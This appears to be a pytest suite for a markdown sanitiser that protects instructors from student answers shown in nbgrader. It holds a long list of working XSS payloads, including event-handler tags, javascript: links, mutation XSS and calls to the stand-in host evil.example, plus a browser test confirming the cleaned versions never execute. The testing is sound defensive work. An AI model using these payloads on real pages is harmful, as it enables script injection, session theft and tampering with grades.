"""A written answer is shown to an instructor in a browser, beside the buttons that give points."""

import functools
import html
import re
import shutil
import urllib.parse

import pytest
from bleach._vendor import html5lib  # parses as browsers do
from nbconvert.filters import markdown2html, strip_files_prefix
from nbconvert.filters.markdown_mistune import InvalidNotebook

from medmeta_ref.grading.markdown_cleaning import clean_markdown, dangers

PAGE_IDS = {"why", "why-comment", "notebook"}

# Every one of these acts, tracks or disfigures when nbgrader shows it as it is.
VECTORS = {
    "script": "<script>pwned()</script>",
    "script in capitals": "<ScRiPt\n>pwned()</sCrIpT\n>",
    "script inside a paragraph": "Because <script>pwned()</script> of it.",
    "script after a slash": "<script/x>pwned()</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "image handler": "<img src=x onerror=pwned()>",
    "image handler, slashes": "<img/src=x/onerror=pwned()>",
    "image handler in a list": "- one\n- <img src=x onerror=pwned()>",
    "image handler in a table": "a | b\n-|-\n1 | <img src=x onerror=pwned()>",
    "image handler in a heading": "# <img src=x onerror=pwned()>",
    "image handler in a quotation": "> <img src=x onerror=pwned()>",
    "image handler in a link": "[<img src=x onerror=pwned()>](https://a.example)",
    "image handler in a definition": "term\n: <img src=x onerror=pwned()>",
    "svg": "<svg onload=pwned()>",
    "svg script": "<svg><script>pwned()</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:pwned() /></a></svg>",
    "details": "<details open ontoggle=pwned()>x</details>",
    "body": "<body onload=pwned()>",
    "autofocus": "<input autofocus onfocus=pwned()>",
    "video": "<video><source onerror=pwned()></video>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned()>",
    "iframe": "<iframe src=javascript:parent.pwned()></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "object": "<object data=javascript:pwned()></object>",
    "embed": "<embed src=data:text/html,x>",
    "base": "<base href=//evil.example>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>body{display:none}</style>",
    "style attribute": '<b style="position:fixed;inset:0">x</b>',
    "form": "<form action=//evil.example><button>Full credit</button></form>",
    "button of another form": "<button formaction=javascript:pwned()>Next</button>",
    "template": "<template><script>pwned()</script></template>",
    "mutation in math": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "mutation in noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "comment that ends early": "<!--><img src=x onerror=pwned()>-->",
    "comment that ends with a bang": "<!-- --!><img src=x onerror=pwned()> -->",
    "comment without an end": "<!-- hides the buttons below",
    "processing instruction": "<?x <img src=x onerror=pwned()> ?>",
    "declaration": "<!X <img src=x onerror=pwned()>",
    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
    "link": "[x](javascript:pwned())",
    "link in capitals": "[x](JaVaScRiPt:pwned())",
    "link in entities": "[x](java&#x73;cript:pwned())",
    "link in more entities": "[x](&#106;&#97;vascript&colon;pwned())",
    "link with a tab": "[x](java&Tab;script:pwned())",
    "link in angles": "[x](<javascript:pwned()>)",
    "link behind a control character": "[x](&#1;javascript:pwned())",
    "link behind nbgrader's filter": "[x](files/javascript:pwned())",
    "link behind nbgrader's filter, slash": "[x](/files/javascript:pwned())",
    "link to a document": "[x](data:text/html,<script>pwned()</script>)",
    "link to an old script": "[x](vbscript:pwned())",
    "link by reference": "[x][r]\n\n[r]: javascript:pwned()",
    "link by short reference": "[r]\n\n[r]: <javascript:pwned()> 'title'",
    "autolink": "<javascript:pwned()>",
    "link that logs out": "[x](/logout)",
    "picture": "![x](javascript:pwned())",
    "picture that breaks out": '![x" onerror="pwned()](https://a.example/b)',
    "picture that tracks": "![x](https://evil.example/seen.png)",
    "picture that logs out": "![x](/logout)",
    "picture from the attachments": "![figure](attachment:image.png)",
    "title that breaks out": "[x](javascript:1 '\"onmouseover=pwned() ')",
    "mermaid": "```mermaid\n</pre><img src=x onerror=pwned()>\n```",
    "mermaid, tildes": "~~~ mermaid\ngraph TD; A-->B\n~~~",
    "formula with a link": r"$\href{javascript:pwned()}{x}$",
    "formula with a link in two parts": (
        r"\begin{Bmatrix}\h<!-- -->ref{javascript:pwned()}{x}\end{Bmatrix}"
    ),
    "formula with a style": r"$$\style{position:fixed}{x}$$",
    "formula that loads": r"\begin{equation}\require{html}\class{score}{x}\end{equation}",
    "environment with a script": r"\begin{x<img src=x onerror=pwned()>}\end{x}",
    "end tags": "</div></div></div>Score: 24 / 24",
    "open tag": "<details><summary>the rest of the page</summary>",
    "bold from here on": "x <b/> y",
    "crossed tags": "<b>one\n\ntwo</b>",
    "data gadget": '<b data-link="x" data-toggle="tooltip">x</b>',
    "id of a box": '<b id="why">x</b>',
    "heading with the id of a box": "# why",
    "heading below which a line is": "why-comment\n===========",
    "script behind a fence that is none": "``` a`b\n<script>pwned()</script>\n```",
    "script behind a tick": "`` <script>pwned()</script> `",
    "slow formulas": r"\\[" * 5000,
}

HONEST = {
    "prose": "The teacher's $T^2$ keeps **both** terms comparable; see _Hinton_ et al.",
    "formulas": "$$\n\\frac{\\partial L}{\\partial z} = \\frac{1}{T}(q-p) < 1\n$$\n\n$a<b$, $a*$",
    "environment": "\\begin{align}\na &= b \\\\\nc &< d\n\\end{align}",
    "code with html": "`<script>`:\n\n```html\n<script>alert(1)</script>\n```\n\n    <img x=y>",
    "code with a link": "`[x](javascript:alert(1))` and `\\href{x}{y}` of $x$",
    "python": "```python\nif a < b and c > d:\n    return {'a': 1}\n```",
    "table": "| a | b |\n|:-|-:|\n| 1 | 2 |",
    "lists": "1. one\n2. two\n   - three\n\n- [x] done\n- [ ] open",
    "links": "[paper](https://arxiv.org/abs/1503.02531 'Hinton'), <https://a.example/?b=c&d=e>, "
    "<me@a.example> and https://b.example/x_y.",
    "headings": "# Why the loss falls\n\n## Second",
    "details": "<details><summary>More</summary>\n\nH<sub>2</sub>O and 2<sup>3</sup>\n\n</details>",
    "comparison": "a < b, b<3, b<=c and c >= d & e",
    "comment": "<!-- my answer -->\nIt falls.",
    "windows path": r"I saved it in C:\data\class and C:\style.",
    "other scripts": "Der Verlust fällt — 損失は下がる. 🎉",
    "line break": "one<br>two<br/>three  \nfour",
}

FORBIDDEN_TAGS = set(
    "script iframe frame frameset object embed applet style link meta base form button textarea "
    "select svg math template noscript video audio img body html head marquee".split()
)
CHECKBOX = {"type": "checkbox", "class": "task-list-item-checkbox", "disabled": "", "checked": ""}


def shown(source):
    """Return the HTML that nbgrader's pages put in: the two filters of its templates."""
    return strip_files_prefix(markdown2html(source))


def tree(page):
    # In the place where nbgrader puts it, with what follows on the page.
    around = f"<body><div id=before><div id=answer>{page}</div></div><p id=after>after</p></body>"
    return html5lib.parse(around, namespaceHTMLElements=False)


def assert_harmless(page):
    """Judge a page as a browser reads it."""
    parsed = tree(page)
    body = parsed.find("body")
    assert body.attrib == {}, "a second body tag lends its attributes to the first"
    assert [each.get("id") for each in body] == ["before", "after"], "the page around is changed"
    assert body[1].text == "after"
    assert not (body[0].tail or "").strip(), "the answer reaches out of its box"
    (answer,) = body[0]
    for element in answer.iter():
        if element is answer or not isinstance(element.tag, str):
            continue
        assert element.tag not in FORBIDDEN_TAGS, element.tag
        assert "}" not in element.tag, "SVG or MathML"
        if element.tag == "input":
            assert {name: CHECKBOX.get(name) for name in element.attrib} == element.attrib
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "data-")), name
            assert name in {"href", "class", "id", "title", "style", "start"} | set(CHECKBOX), name
            if name == "style":
                assert re.fullmatch("text-align:(left|center|right)", value)
            if name == "id":
                assert value not in PAGE_IDS
            if name == "href":
                assert_harmless_url(value)
    formulas = "".join(text for text in texts(answer) if text)
    if re.search(r"\$|\\begin", formulas):
        assert not re.search(r"\\(href|style|class|require)\b", formulas)
    assert "mermaid" not in page


def texts(element):
    """Yield the words outside code, comments passed over: what MathJax reads."""
    if element.tag not in ("code", "pre"):
        if isinstance(element.tag, str):
            yield element.text
        for child in element:
            yield from texts(child)
            yield child.tail


def assert_harmless_url(url):
    for decoded in (url, html.unescape(url), urllib.parse.unquote(url)):
        plain = re.sub(r"[\x00-\x20\x7f-\xa0]", "", decoded).lower()
        assert plain.startswith(("https://", "http://", "mailto:", "#")), url


def assert_cleans(clean):
    for name, vector in (VECTORS | {"fence inside": "~~~\n</div>\n~~~\n</div>\n# why"}).items():
        text = clean(vector)
        if name not in TAME:
            try:
                assert_harmless(shown(text))
            except AssertionError as error:
                raise AssertionError(f"{name}: {error}") from error
    for name, text in HONEST.items():
        assert clean(text) == text, name


@functools.cache
def cleaned(source):
    return clean_markdown(source, page_ids=PAGE_IDS)[0]


def test_there_are_at_least_40_vectors():
    assert len(set(VECTORS.values())) == len(VECTORS) >= 40


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_vector_is_harmless_on_the_page_and_noted(vector):
    text, note = clean_markdown(vector, page_ids=PAGE_IDS)
    assert_harmless(shown(text))
    assert bool(note) == (text != vector)
    if note:
        assert note.startswith("holds ")
        assert note.endswith(("as text.", "as plain text."))
        assert not re.search(r"[<>&\"]", note)


# What browsers make of these is a comment or stays inside the answer. They are here because it
# takes a rule of HTML to know that.
TAME = {"cdata", "crossed tags", "declaration", "open tag", "processing instruction"}
TAME |= {"image handler, slashes", "slow formulas"}


@pytest.mark.parametrize("name", sorted(set(VECTORS) - TAME))
def test_judge_finds_the_vector_dangerous_as_it_is(name):
    with pytest.raises((AssertionError, InvalidNotebook)):
        assert_harmless(shown(VECTORS[name]))


@pytest.mark.parametrize("name", ["open tag", "crossed tags", "cdata", "declaration"])
def test_what_only_the_rules_of_html_keep_harmless_is_written_out_all_the_same(name):
    assert dangers(VECTORS[name])
    assert cleaned(VECTORS[name]) != VECTORS[name]


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_text_stays_as_it_is(text):
    assert clean_markdown(text, page_ids=PAGE_IDS) == (text, "")
    assert_harmless(shown(text))


@pytest.mark.parametrize("vector", [v for name, v in VECTORS.items() if name != "slow formulas"])
def test_cleaning_twice_changes_nothing_more(vector):
    assert clean_markdown(cleaned(vector), page_ids=PAGE_IDS) == (cleaned(vector), "")


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_honest_words_around_a_vector_survive(vector):
    page = tree(shown(cleaned(f"First words.\n\n{vector}\n\nLast words.")))
    words = "".join(page.find("body").itertext())
    assert "First words." in words
    if vector not in (VECTORS["comment without an end"],):
        assert "Last words." in words


def test_html_becomes_readable_and_its_surroundings_stay_markdown():
    page = shown(cleaned("**Because** $a<b$ <blink>x</blink> `<i>`"))
    assert "<strong>Because</strong>" in page
    assert "$a&lt;b$" in page
    assert "&lt;blink&gt;x" in page
    assert "<code>&lt;i&gt;</code>" in page


def test_comparison_that_html_would_swallow_is_seen():
    assert "c <d" not in "".join(tree(shown("b <c and c <d e > f")).itertext())
    assert "b <c and d > e" in "".join(tree(shown(cleaned("b <c and d > e"))).itertext())


def test_code_stays_readable_beside_what_is_written_out():
    source = "<blink>\n\n```html\n<script>if (a && b) {}</script>\n```\n\n`<b onclick=x>`"
    words = "".join(tree(shown(cleaned(source))).itertext())
    assert "<script>if (a && b) {}</script>" in words
    assert "<b onclick=x>" in words
    assert "<blink>" in words


def test_plain_text_shows_every_character():
    source = "</div>\n~~~~\n<script>&amp;</script>\n```\n~~~\n~~~~\n# why"
    text, note = clean_markdown(source, page_ids=PAGE_IDS)
    assert note.endswith("shown as plain text.")
    assert source in "".join(tree(shown(text)).itertext())


def test_formula_keeps_its_delimiters():
    text = cleaned(r"<blink> $\frac{1}{2}$ and $$x$$ and \\(y\\)")
    page = shown(text)
    assert r"$\frac{1}{2}$" in page
    assert "$$x$$" in page
    assert "$y$" in page


def test_text_that_breaks_the_parser_is_shown_as_plain_text(monkeypatch):
    from nbconvert.filters import markdown_mistune

    def broken(source):
        raise KeyError(source)

    monkeypatch.setattr(markdown_mistune, "markdown2html_mistune", broken)
    assert dangers("x") == ["markdown that cannot be read"]
    assert clean_markdown("x")[0].endswith("~~~\nx\n~~~\n")


@pytest.mark.parametrize(
    "opener", ["[", "![", "`", "*a", "_a_ ", "> ", "- ", "$a", "<", "<b>", "|a"]
)
def test_longest_repetitions_are_read_or_refused_without_harm(opener):
    source = (opener * 8_000)[:8_000]
    assert_harmless(shown(cleaned(source)))


# Wrong ways to clean, each of them used somewhere.


def untouched(source):
    return source


def angles_escaped(source):
    return source.replace("<", "&lt;")


def scripts_removed(source):
    return re.sub(r"(?is)<script.*?</script>|\son\w+=\S+|javascript:", "", source)


def bleached(source):
    import bleach

    return bleach.clean(source)


def html_refused_only(source):
    return source if "HTML" not in " ".join(dangers(source)) else cleaned(source)


def links_refused_only(source):
    return cleaned(source) if "](" in source or "]:" in source else source


def always_plain(source):
    return f"```\n{source}\n```"


def fenced_by_three(source):
    return f"~~~\n{source}\n~~~" if dangers(source, page_ids=PAGE_IDS) else source


def page_ids_forgotten(source):
    return clean_markdown(source)[0]


@pytest.mark.parametrize(
    "wrong",
    [
        untouched,
        angles_escaped,
        scripts_removed,
        bleached,
        html_refused_only,
        links_refused_only,
        always_plain,
        fenced_by_three,
        page_ids_forgotten,
    ],
)
def test_judge_rejects(wrong):
    with pytest.raises((AssertionError, InvalidNotebook)):
        assert_cleans(wrong)


def test_judge_accepts_the_cleaning():
    assert_cleans(cleaned)


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_no_vector_runs_in_a_browser_once_cleaned():
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    runs = {True: set(), False: set()}
    asked = {True: set(), False: set()}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-background-networking"]
        )
        page = browser.new_page()
        page.route("**/*", lambda route: route.abort())
        for is_cleaned in (False, True):
            for name, vector in VECTORS.items():
                source = cleaned(vector) if is_cleaned else vector
                if "attachment:" in source:
                    continue  # uncleaned, nbconvert stops at it
                seen = []

                def note(request, seen=seen):
                    seen.append(request.url)

                page.on("request", note)
                page.set_content(
                    "<script>n = 0; function pwned() { n += 1 }</script>" + shown(source)
                )
                for link in page.query_selector_all("a[href^='javascript' i]"):
                    link.evaluate("link => link.click()")
                page.wait_for_timeout(30)
                if page.evaluate("typeof n === 'undefined' || n > 0"):
                    runs[is_cleaned].add(name)
                if seen:
                    asked[is_cleaned].add(name)
                page.remove_listener("request", note)
        browser.close()
    assert runs[True] == set()
    assert asked[True] == set()
    assert len(runs[False]) > 20
    assert len(asked[False]) >= 3
